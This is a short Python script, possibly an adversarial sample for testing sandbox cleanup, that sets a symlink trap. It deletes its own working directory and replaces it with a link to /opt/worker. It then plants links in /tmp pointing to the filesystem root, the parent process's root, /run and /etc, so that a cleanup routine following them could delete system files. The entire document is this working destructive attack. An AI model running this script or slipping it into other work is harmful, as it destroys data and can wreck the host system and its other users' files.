"""Put links in the place of one's folder and beside it: to the worker, to the root, to a loop. Who cleans up may follow them."""

import os
import shutil

own = os.getcwd()
os.chdir("/")
shutil.rmtree(own)
os.symlink("/opt/worker", own)
for name, target in (
    ("root", "/"),
    ("loop", "/tmp/loop"),
    ("proc", f"/proc/{os.getppid()}/root"),
    ("child-9", "/run"),
):
    if not os.path.lexists(f"/tmp/{name}"):
        os.symlink(target, f"/tmp/{name}")
for number in range(20):
    os.makedirs(f"/tmp/next-{os.getuid()}", exist_ok=True)
    os.symlink("/etc", f"/tmp/next-{os.getuid()}/{number}")
